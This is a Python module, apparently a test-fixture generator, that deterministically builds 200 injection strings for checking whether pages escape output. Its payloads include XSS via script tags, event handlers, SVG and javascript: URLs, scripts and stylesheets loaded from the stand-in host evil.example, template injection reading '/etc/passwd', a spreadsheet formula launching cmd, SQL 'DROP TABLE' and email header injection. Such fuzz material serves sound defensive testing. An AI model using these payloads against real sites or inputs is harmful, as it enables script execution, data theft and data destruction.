"""Texts that would run, load or break something if a page showed them unescaped."""

import random
from collections.abc import Callable
from urllib.parse import quote

COUNT = 200
EVIL = "evil.example"
_JS = "document.title='pwned';alert(1)"

FORMS = {
    "script": f"<script>{_JS}</script>",
    "script elsewhere": f"<script src=//{EVIL}/x.js></script>",
    "event": f'<img src=x onerror="{_JS}">',
    "svg": f"<svg onload={_JS}><script>{_JS}</script></svg>",
    "svg use": f'<svg><use href="//{EVIL}/x#y"/></svg>',
    "animate": f'<svg><a><animate attributeName=href values="javascript:{_JS}"/>x</a></svg>',
    "math": f'<math><maction xlink:href="javascript:{_JS}">x</maction></math>',
    "frame": f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
    "object": f"<object data=//{EVIL}/x><embed src=//{EVIL}/y>",
    "link": f'<a href="javascript:{_JS}">x</a>',
    "address": f"javascript:{_JS}",
    "data address": f"data:text/html,<script>{_JS}</script>",
    "style": f"<style>*{{background:url(//{EVIL}/x)}} @import '//{EVIL}/y';</style>",
    "sheet": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "css": f"x;background:url(//{EVIL}/x);width:99999px",
    "base": f"<base href=//{EVIL}/><meta http-equiv=refresh content='0;url=//{EVIL}'>",
    "form": f"<form action=//{EVIL}><input name=csrf autofocus onfocus={_JS}><button>x",
    "htmx": f'<div hx-get="//{EVIL}" hx-on:load="{_JS}" hx-trigger="load"></div>',
    "jinja": "{{ 7919*7907 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    "other template": "${7919*7907} #{7919*7907} <%= 7919*7907 %> [[7919*7907]]",
    "formula": f'=HYPERLINK("http://{EVIL}/","x")',
    "formula of a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE calls; --",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned",
    "header": f"x\r\nBcc: all@{EVIL}\r\n\r\n<script>{_JS}</script>",
    "marks": "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u061c",
    "controls": "\x00\x01\x07\x08\x1b[2J\x7f\x85\u2028\u2029\ud800",
    "long word": "Wx" * 2_000,
    "long": "many words " * 2_000,
    "combining": "e" + "\u0301" * 500,
}

CONTEXTS: dict[str, Callable[[str], str]] = {
    "bare": lambda x: x,
    "quoted": lambda x: f'"{x}',
    "attribute": lambda x: f'">{x}<"',
    "single": lambda x: f"'>{x}<'",
    "handler": lambda x: f"\" onmouseover={_JS} style=position:fixed x='{x}",
    "title": lambda x: f"</title></h1>{x}",
    "textarea": lambda x: f"</textarea></option></select>{x}",
    "in script": lambda x: f"</script></style>{x}",
    "comment": lambda x: f"--><!--{x}",
    "cdata": lambda x: f"]]>{x}<![CDATA[",
    "table": lambda x: f"</td></tr></table></ul></main>{x}",
    "upper case": str.upper,
    "percent": lambda x: quote(x, errors="replace"),
    "entities": lambda x: "".join(f"&#x{ord(c):x};" for c in x[:300]),
    "nulls": lambda x: x.replace("<", "<\x00").replace("s", "s\x00"),
    "turned": lambda x: f"\u202e{x[::-1]}\u202c",
    "wide": lambda x: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in x),
    "lines": lambda x: f"\n\r\n{x}\u2028",
}


def payloads(seed: int = 7) -> tuple[str, ...]:
    """COUNT texts, each form among them in several contexts; the same for the same seed."""
    dealer = random.Random(seed)
    orders = {form: dealer.sample(list(CONTEXTS), len(CONTEXTS)) for form in FORMS}
    pairs = [(form, order[at]) for at in range(len(CONTEXTS)) for form, order in orders.items()]
    return tuple(CONTEXTS[context](FORMS[form]) for form, context in pairs[:COUNT])
